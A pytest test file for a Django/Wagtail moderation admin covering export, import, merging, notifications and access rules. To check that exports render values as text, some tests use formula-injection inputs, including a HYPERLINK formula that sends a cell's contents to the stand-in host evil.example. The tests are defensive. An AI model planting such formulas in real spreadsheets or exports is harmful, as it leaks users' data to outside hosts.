"""The answers' admin: filters, export and import round trip, conversion without contact
data, notifications per status, duplicates and their merge."""

import csv
import io
import re

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from contributions.actions import merge_answers
from contributions.conversion import convert_to_inspir_action
from contributions.duplicates import possible_duplicates
from contributions.factories import CallAnswerFactory
from contributions.models import AnswerAttachment, CallAnswer, InspirActionPage
from fabrique.moderation.actions import decide
from fabrique.moderation.models import ModerationStatus

from .conftest import make_call, pdf_bytes

LIST_URL = "/admin/snippets/contributions/callanswer/"


def test_the_queue_is_for_moderators_only(answer, editor, moderator_client):
    client = Client()
    client.force_login(editor)
    response = client.get(LIST_URL)
    assert response.status_code == 403
    assert answer.organisation not in response.content.decode()
    response = moderator_client.get(LIST_URL)
    assert response.status_code == 200
    assert answer.organisation in response.content.decode()


def test_filters_by_call_kind_department_and_status(open_call, closed_call, moderator_client):
    CallAnswerFactory(call=open_call, organisation="Alpha", actor_kind="cms", department="93")
    CallAnswerFactory(call=closed_call, organisation="Bravo", actor_kind="cpts", department="41")
    CallAnswerFactory(
        call=open_call,
        organisation="Charlie",
        actor_kind="cms",
        department="23",
        status=ModerationStatus.SELECTED,
    )

    def listed(query):
        html = moderator_client.get(LIST_URL, query).content.decode()
        return {name for name in ("Alpha", "Bravo", "Charlie") if name in html}

    assert listed({"call": closed_call.pk}) == {"Bravo"}
    assert listed({"actor_kind": "cms"}) == {"Alpha", "Charlie"}
    assert listed({"department": "41"}) == {"Bravo"}
    assert listed({"status": "selected"}) == {"Charlie"}


def _export(client, call, fmt):
    response = client.get(LIST_URL, {"call": call.pk, "export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_of_a_call(open_call, closed_call, moderator_client):
    CallAnswerFactory(call=open_call, organisation='=HYPERLINK("x")', commune="Aubusson")
    CallAnswerFactory(call=closed_call, organisation="Autre appel")
    rows = list(csv.reader(io.StringIO(_export(moderator_client, open_call, "csv").decode())))
    assert rows[0][:4] == ["Organisation", "Type d'acteur", "Commune", "Département"]
    assert len(rows) == 2
    # A formula is written as text, never run by the spreadsheet.
    assert rows[1][0] == '\'=HYPERLINK("x")'
    assert rows[1][1] == "centre municipal de santé"
    assert "Appel ouvert" in rows[1]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_column_of_either_export_is_read_as_a_formula(calls_index, moderator_client):
    """The call's title too: a call named « =HYPERLINK(…) » stays text in both files."""
    call = make_call(calls_index, title='=HYPERLINK("https://evil.example/?"&A1)', slug="piege")
    CallAnswerFactory(
        call=call,
        organisation="=1+1",
        commune="+33 Tulle",
        partners="-2",
        action_what="@SUM(A1)",
        action_with="\t=1",
        action_for="\r=1",
        action_since="=NOW()",
        results="+1",
        helped="-1",
        difficulties="@x",
        contact_name="=Ana",
        phone="+33 6 00 00 00 00",
    )
    rows = list(csv.reader(io.StringIO(_export(moderator_client, call, "csv").decode())))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Appel"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert row["Avec qui"] == "'\t=1"
    for heading, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), (heading, cell)

    sheet = load_workbook(io.BytesIO(_export(moderator_client, call, "xlsx"))).active
    headings, values = [[cell.value for cell in line] for line in sheet.iter_rows()]
    cells = dict(zip(headings, values, strict=True))
    assert cells["Appel"] == row["Appel"]
    assert not isinstance(cells["Reçue le"], str), "a date stays a date"
    for heading, cell in cells.items():
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (heading, cell)


def test_xlsx_export_and_import_round_trip(open_call, closed_call, moderator_client):
    CallAnswerFactory(call=open_call, organisation="Maison de santé du Lac", department="2A")
    CallAnswerFactory(call=open_call, organisation="Collectif des Tilleuls", actor_kind="collectif")
    content = _export(moderator_client, open_call, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Organisation"
    assert {row[0] for row in values[1:]} == {"Maison de santé du Lac", "Collectif des Tilleuls"}

    response = moderator_client.post(
        "/admin/contributions/import/",
        {"call": closed_call.pk, "file": SimpleUploadedFile("fiches.xlsx", content)},
    )
    assert response.status_code == 302
    imported = CallAnswer.objects.filter(call=closed_call).order_by("organisation")
    assert [a.organisation for a in imported] == [
        "Collectif des Tilleuls",
        "Maison de santé du Lac",
    ]
    assert imported[0].actor_kind == "collectif"
    assert imported[1].department == "2A"
    assert all(a.source == CallAnswer.Source.IMPORT for a in imported)
    assert all(a.status == ModerationStatus.PENDING for a in imported)


def test_csv_import_round_trip(open_call, closed_call, moderator_client):
    CallAnswerFactory(call=open_call, organisation="=1+1", phone="07 00 00 00 00")
    content = _export(moderator_client, open_call, "csv")
    response = moderator_client.post(
        "/admin/contributions/import/",
        {"call": closed_call.pk, "file": SimpleUploadedFile("fiches.csv", content)},
    )
    assert response.status_code == 302
    imported = CallAnswer.objects.get(call=closed_call)
    assert imported.organisation == "=1+1"
    assert imported.phone == "07 00 00 00 00"


def test_an_import_with_a_bad_row_stores_nothing(closed_call, moderator_client):
    content = (
        "Organisation;Type d'acteur;Commune;Département;Action;Personne à contacter;E-mail\n"
        "Bonne fiche;association;Tulle;19;Une action;Ana;ana@example.org\n"
        "Mauvaise fiche;banque;Tulle;20;Une action;Léo;pas-une-adresse\n"
    ).encode()
    response = moderator_client.post(
        "/admin/contributions/import/",
        {"call": closed_call.pk, "file": SimpleUploadedFile("fiches.csv", content)},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Rien n&#x27;a été importé" in html or "Rien n'a été importé" in html
    assert "Ligne 3" in html
    assert not CallAnswer.objects.exists()


CONTACT = ("Camille Martin", "camille@example.org", "01 23 45 67 89")


def _page_texts(page) -> str:
    values = []
    for field in page._meta.get_fields():
        if getattr(field, "concrete", False) and not field.is_relation:
            values.append(str(getattr(page, field.attname, "")))
    return "\n".join(values)


def test_conversion_makes_a_draft_without_contact_data(answer, inspir_index, moderator_client):
    response = moderator_client.post(
        f"/admin/contributions/reponses/{answer.pk}/inspir-action/",
        {"title": "Des permanences d'accès aux droits", "fields": ["commune", "action_what"]},
    )
    assert response.status_code == 302
    page = InspirActionPage.objects.get()
    assert not page.live
    assert page.get_parent().pk == inspir_index.pk
    assert page.organisation == answer.organisation
    assert page.commune == "Saint-Denis"
    assert "permanences d&#x27;accès aux droits dans le hall" in page.actions
    assert page.department == ""  # not chosen, not copied
    texts = _page_texts(page) + str(page.get_latest_revision().content)
    for value in CONTACT:
        assert value not in texts
    answer.refresh_from_db()
    assert answer.inspir_action_id == page.pk
    assert answer.status == ModerationStatus.SELECTED


def test_publishing_the_inspir_action_publishes_the_answer_and_tells_its_contact(
    answer, inspir_index, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        page = convert_to_inspir_action(answer, "Une action", ["commune"])
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        page.save_revision().publish()
    answer.refresh_from_db()
    assert answer.status == ModerationStatus.PUBLISHED
    (message,) = mail.outbox
    assert message.to == ["camille@example.org"]
    assert "publiée" in message.subject
    page.refresh_from_db()
    assert page.full_url in message.body
    assert "/suivi/" in message.body


@pytest.mark.parametrize(
    ("status", "label"),
    [
        (ModerationStatus.NEEDS_REVIEW, "en cours d'examen"),
        (ModerationStatus.SELECTED, "retenue"),
        (ModerationStatus.REFUSED, "non retenue"),
        (ModerationStatus.PUBLISHED, "publiée"),
    ],
)
def test_each_status_change_tells_the_contact(
    answer, moderator, status, label, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        decide(answer, status, moderator, reason="Hors sujet (note interne)")
    (message,) = mail.outbox
    assert message.to == ["camille@example.org"]
    assert message.subject.endswith(f": {label}")
    assert re.search(r"http://testserver/appels-a-contributions/\S+/suivi/\S+/", message.body)
    assert "note interne" not in message.body
    assert answer.organisation not in message.body


def test_no_message_when_the_team_chose_silence(answer, django_capture_on_commit_callbacks):
    answer.notify_contact = False
    answer.save()
    with django_capture_on_commit_callbacks(execute=True):
        decide(answer, ModerationStatus.SELECTED)
    assert not mail.outbox


def test_the_admin_form_offers_an_answer_its_own_statuses(answer, moderator_client):
    html = moderator_client.get(f"{LIST_URL}edit/{answer.pk}/").content.decode()
    assert "retenue" in html and "non retenue" in html and "en cours d&#x27;examen" in html


def test_testimonies_are_never_offered_retenu():
    from testimonies.models import Testimony

    assert ModerationStatus.SELECTED not in Testimony.moderation_decisions


def test_assignment_and_private_notes_stay_in_the_admin(answer, moderator, moderator_client):
    answer.assignee = moderator
    answer.private_notes = "À rappeler mardi"
    answer.save()
    assert moderator_client.get(LIST_URL, {"assignee": moderator.pk}).status_code == 200
    assert "À rappeler mardi" not in Client().get(answer.call.url).content.decode()


def test_possible_duplicates_on_this_database(open_call, closed_call):
    kept = CallAnswerFactory(
        call=open_call, organisation="Maison de santé des Hauts", email="a@example.org"
    )
    same = CallAnswerFactory(
        call=open_call, organisation="Maison de Santé des hauts ", email="b@example.org"
    )
    same_address = CallAnswerFactory(
        call=open_call, organisation="MSP", email="A@example.org", action_what="Autre chose."
    )
    CallAnswerFactory(
        call=open_call,
        organisation="Collectif Bien Vivre",
        email="c@example.org",
        action_what="Un jardin partagé.",
    )
    CallAnswerFactory(call=closed_call, organisation="Maison de santé des Hauts")
    found = possible_duplicates(kept)
    assert same in found
    if connection.vendor != "postgresql":
        assert found == [same, same_address]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="pg_trgm exists on PostgreSQL only")
def test_possible_duplicates_by_trigram_on_postgresql(open_call):
    kept = CallAnswerFactory(
        call=open_call,
        organisation="Maison de santé pluriprofessionnelle des Hauts",
        email="a@example.org",
    )
    similar = CallAnswerFactory(
        call=open_call, organisation="MSP des Hauts de la ville", email="b@example.org"
    )
    CallAnswerFactory(
        call=open_call,
        organisation="Collectif Bien Vivre",
        email="c@example.org",
        action_what="Un jardin partagé.",
    )
    found = possible_duplicates(kept)
    assert similar in found
    assert [a.organisation for a in found] == [similar.organisation]


def test_merge_keeps_one_answer_with_both_files(open_call, moderator, private_root):
    kept = CallAnswerFactory(call=open_call, organisation="Maison de santé des Hauts")
    duplicate = CallAnswerFactory(
        call=open_call, organisation="MSP des Hauts", results="Deux fois moins d'attente."
    )
    attachment = AnswerAttachment(answer=duplicate, original_name="a.pdf", kind="pdf", size=10)
    attachment.file.save("a.pdf", SimpleUploadedFile("a.pdf", pdf_bytes()), save=False)
    attachment.save()
    merge_answers(kept, duplicate, moderator)
    assert not CallAnswer.objects.filter(pk=duplicate.pk).exists()
    assert list(kept.attachments.all()) == [attachment]
    kept.refresh_from_db()
    assert "Deux fois moins d'attente." in kept.private_notes


def test_merge_view_asks_then_merges(open_call, moderator_client):
    kept = CallAnswerFactory(call=open_call, organisation="Maison de santé des Hauts")
    duplicate = CallAnswerFactory(call=open_call, organisation="Maison de santé des Hauts")
    edit = moderator_client.get(f"{LIST_URL}edit/{kept.pk}/").content.decode()
    url = f"/admin/contributions/reponses/{kept.pk}/fusionner/{duplicate.pk}/"
    assert url in edit
    assert moderator_client.get(url).status_code == 200
    assert moderator_client.post(url).status_code == 302
    assert list(CallAnswer.objects.all()) == [kept]


def test_other_call_cannot_be_merged(open_call, calls_index, moderator_client):
    other = make_call(calls_index, title="Autre", slug="autre")
    kept = CallAnswerFactory(call=open_call)
    stranger = CallAnswerFactory(call=other)
    url = f"/admin/contributions/reponses/{kept.pk}/fusionner/{stranger.pk}/"
    assert moderator_client.post(url).status_code == 404
    assert CallAnswer.objects.count() == 2


def test_admin_pages_render_for_moderators(answer, inspir_index, moderator_client):
    for url in [
        "/admin/contributions/import/",
        f"/admin/contributions/reponses/{answer.pk}/inspir-action/",
        f"{LIST_URL}edit/{answer.pk}/",
    ]:
        response = moderator_client.get(url)
        assert response.status_code == 200, url
    html = moderator_client.get(f"{LIST_URL}edit/{answer.pk}/").content.decode()
    assert "Transformer en Inspir" in html
    assert "Camille Martin" in html  # the team reads the contact, the public never does


def test_admin_pages_refuse_other_users(answer, editor):
    client = Client()
    client.force_login(editor)
    for url in [
        "/admin/contributions/import/",
        f"/admin/contributions/reponses/{answer.pk}/inspir-action/",
        f"/admin/contributions/reponses/{answer.pk}/fusionner/{answer.pk}/",
    ]:
        response = client.get(url)
        assert response.status_code == 403, url
        assert answer.organisation not in response.content.decode()


def test_a_call_with_answers_is_not_deleted(answer, django_user_model):
    admin = django_user_model.objects.create_superuser("root", "root@example.org", "x")
    client = Client()
    client.force_login(admin)
    response = client.post(f"/admin/pages/{answer.call.pk}/delete/", {"reason": "Appel clos"})
    assert response.status_code == 302
    assert CallAnswer.objects.filter(pk=answer.pk).exists()
    # The call stays: no history says it was deleted.
    from wagtail.models import PageLogEntry

    assert not PageLogEntry.objects.filter(action__startswith="fabrique.delete").exists()
    answer.call.refresh_from_db()
